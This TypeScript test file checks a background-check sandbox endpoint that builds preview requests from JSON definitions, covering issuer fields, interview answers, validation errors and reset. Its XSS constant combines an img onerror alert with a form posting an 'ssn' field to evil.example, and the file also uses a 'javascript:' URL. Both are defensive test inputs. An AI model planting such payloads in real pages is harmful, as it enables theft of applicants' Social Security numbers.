import { ACME_STAFFING } from '../../sandbox/catalogue/issuers';
import { APPLICANT_QUESTIONS } from '../../sandbox/catalogue/questions';
import { parseStartupQuery } from '../../src/domain/session/startup-query';
import { INTERVIEW, testSandbox } from './sandbox-client';

const XSS = '<img src=x onerror=alert(1)><form action="https://evil.example"><input name=ssn></form>';

const DEFINITION = {
  issuer: {
    displayName: 'Globex Hiring',
    primaryColor: '#7b1fa2',
    wordmarkUri: 'http://attest.test/__sandbox/wordmark.svg',
    consentHtml: { 'consent.fcra': { html: `<p>{{company}} checks you.</p>${XSS}`, data: { company: 'Globex' } } },
    supportContactInfo: { email: 'help@globex.example', phone: '+1 555 010 0199' },
    idoConfirmationMessage: { headingText: 'Thanks from Globex', messageText: XSS },
    idoStatusMessages: { complete: { msg: 'All done', url: 'javascript:alert(1)', urlTitle: 'Next' } },
    privacyPolicy: { headline: 'Globex privacy', message: XSS, url: 'https://globex.example/privacy', title: 'Policy' },
  },
  questions: [
    { attrType: 'core.ssn', type: 'ssn', metadata: { title: `SSN ${XSS}`, required: true } },
    { attrType: 'consent.fcra', type: 'consent', metadata: { title: 'Consent', required: true } },
  ],
  status: 'in_process',
  balance: 9.5,
  offenses: [{ id: 'o1', specificOffense: XSS, effectiveDate: '2020-02-02' }],
  transitionUri: 'https://next.example/go',
  continueUrl: 'https://globex.example/back?step=2',
  enableReturn: true,
  answers: { 'core.ssn': '123-45-6789', 'consent.fcra': { accepted: true } },
  consentGiven: true,
};

describe('request definitions in the sandbox', () => {
  const sandbox = testSandbox();
  afterAll(() => sandbox.app.close());

  const define = (payload?: unknown) =>
    sandbox.call({
      method: 'POST',
      url: '/__sandbox/requests',
      headers: { host: 'attest.test' },
      ...(payload === undefined ? {} : { payload: payload as object }),
    });

  /** Creates a request from a definition and opens its session as the app would. */
  async function applicantOf(payload?: unknown) {
    const created = await define(payload);
    expect(created.statusCode).toBe(200);
    const link = new URL(created.json<{ url: string }>().url);
    const query = parseStartupQuery(link.search);
    const api = (method: 'GET' | 'POST' | 'PUT', path: string, body?: object) =>
      sandbox.call({
        method,
        url: `${INTERVIEW}${path}`,
        headers: { 'x-csrf-token': query.canary! },
        ...(body === undefined ? {} : { payload: body }),
      });
    const dn = (await api('GET', `/requests/${query.rprId}/relyingParty`)).json<{ dn: string }>().dn;
    const issuer = await api(
      'GET',
      `/identity/distinguishedNames?dn=${encodeURIComponent(dn)}&includeConsentText=true`,
    );
    return { link, query, api, rprId: query.rprId!, dn, issuer };
  }

  it('answers the link of a new request on the caller host, with the definition in it', async () => {
    const { link, query, api, rprId } = await applicantOf(DEFINITION);
    expect(link.origin).toBe('http://attest.test');
    expect(query).toEqual(
      expect.objectContaining({ continueUrl: 'https://globex.example/back?step=2', enableReturn: true }),
    );
    const interview = (await api('GET', `/requests/${rprId}/interview`)).json();
    expect(interview).toEqual(
      expect.objectContaining({
        questions: [
          { ...DEFINITION.questions[0], complete: true },
          { ...DEFINITION.questions[1], complete: true },
        ],
        balance: { amount: 9.5, currency: 'USD' },
        consentGiven: true,
        user: expect.objectContaining({ transitionUrl: 'https://next.example/go' }),
      }),
    );
    expect((await api('GET', '/attributeData')).json()).toEqual(DEFINITION.answers);
    expect((await api('GET', `/requests/${rprId}/criminalOffenses`)).json()).toEqual({
      offenses: DEFINITION.offenses,
    });
    const record = (await api('GET', `/requests/${rprId}`)).json();
    expect(record).toEqual(
      expect.objectContaining({ status: 'in_process', submitted_at: Math.floor(sandbox.clock.now / 1000) }),
    );
    expect((await api('GET', `/requests/${rprId}/requestTransition`)).json()).toEqual({
      status: 'transitionReady',
      transitionUri: 'https://next.example/go',
    });
  });

  it('gives each definition its own issuer, served as sent under a fresh dn', async () => {
    const first = await applicantOf(DEFINITION);
    const second = await applicantOf(DEFINITION);
    expect(first.dn).toMatch(/^cn=preview-[\w-]+,ou=issuers,o=attest$/);
    expect(second.dn).not.toBe(first.dn);
    expect(first.issuer.statusCode).toBe(200);
    expect(first.issuer.json()).toEqual({ id: first.dn, ...DEFINITION.issuer });
  });

  it("defaults to Acme Staffing's issuer and the applicant scenario's new request", async () => {
    const { link, api, rprId, dn, issuer } = await applicantOf();
    expect([...link.searchParams.keys()]).toEqual(['rprId', 'canary']);
    expect(issuer.json()).toEqual({ ...ACME_STAFFING, id: dn });
    const interview = (await api('GET', `/requests/${rprId}/interview`)).json();
    expect(interview).toEqual(
      expect.objectContaining({
        questions: APPLICANT_QUESTIONS.map((q) => ({ ...q, complete: false })),
        balance: { amount: 0, currency: 'USD' },
        consentGiven: false,
        user: expect.objectContaining({ transitionUrl: null }),
      }),
    );
    expect((await api('GET', `/requests/${rprId}`)).json().status).toBe('new');
  });

  it('fills only the issuer fields a definition leaves out from Acme Staffing', async () => {
    const { issuer } = await applicantOf({ issuer: { displayName: 'Initech', supportContactInfo: null } });
    expect(issuer.json()).toEqual(
      expect.objectContaining({
        displayName: 'Initech',
        primaryColor: ACME_STAFFING.primaryColor,
        supportContactInfo: null,
        consentHtml: ACME_STAFFING.consentHtml,
      }),
    );
  });

  it('opens a working session: answers save and the request is submitted', async () => {
    const { api, rprId } = await applicantOf({
      questions: [{ attrType: 'core.ssn', type: 'ssn', metadata: { required: true } }],
      continueUrl: 'https://issuer.example/',
    });
    const saved = await api('POST', '/attributeData', { 'core.ssn': { shareWith: [], value: '123-45-6789' } });
    expect(saved.statusCode).toBe(200);
    expect((await api('GET', `/requests/${rprId}/requestTransition`)).json()).toEqual({
      status: 'transitionNotNeeded',
    });
    expect((await api('GET', `/requests/${rprId}`)).json().status).toBe('in_process');
  });

  it.each([
    [{ issuer: { logo: 'x' } }, /^issuer\.logo is not a known field \(displayName, /],
    [{ questions: [{ attrType: 'a', type: 'text', extra: 1 }] }, /^questions\[0\]\.extra is not a known field/],
    [
      { issuer: { idoStatusMessages: { complete: { msg: 'x', url: 5 } } } },
      /^issuer\.idoStatusMessages\.complete\.url must be a string, not a number$/,
    ],
    [{ balance: -5 }, /^balance must be a number >= 0$/],
    [{ enableReturn: 'yes' }, /^enableReturn must be true or false, not a string$/],
  ])('refuses %j with a 400 naming the field, and creates nothing', async (payload, error) => {
    const before = sandbox.state.requests.size;
    const issuers = sandbox.state.issuers.size;
    const reply = await define(payload);
    expect(reply.statusCode).toBe(400);
    expect(reply.json<{ error: string }>().error).toMatch(error);
    expect(sandbox.state.requests.size).toBe(before);
    expect(sandbox.state.issuers.size).toBe(issuers);
  });

  it('refuses a body that is not JSON', async () => {
    const reply = await sandbox.call({
      method: 'POST',
      url: '/__sandbox/requests',
      headers: { 'content-type': 'application/json' },
      payload: '{"issuer":',
    });
    expect(reply.statusCode).toBe(400);
  });

  it('serves a sample wordmark from its own origin', async () => {
    const reply = await sandbox.call({ method: 'GET', url: '/__sandbox/wordmark.svg' });
    expect(reply.statusCode).toBe(200);
    expect(reply.headers['content-type']).toBe('image/svg+xml');
    expect(reply.body).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"[^>]*>[\s\S]*>Acme<\/text>/);
    expect(reply.body).not.toMatch(/<script|on\w+=/i);
  });

  it('forgets the preview issuers on reset and keeps the stock ones', async () => {
    const { dn } = await applicantOf({});
    sandbox.state.reset();
    expect(sandbox.state.issuers.has(dn)).toBe(false);
    expect(sandbox.state.issuers.get(ACME_STAFFING.id)).toBe(ACME_STAFFING);
  });
});
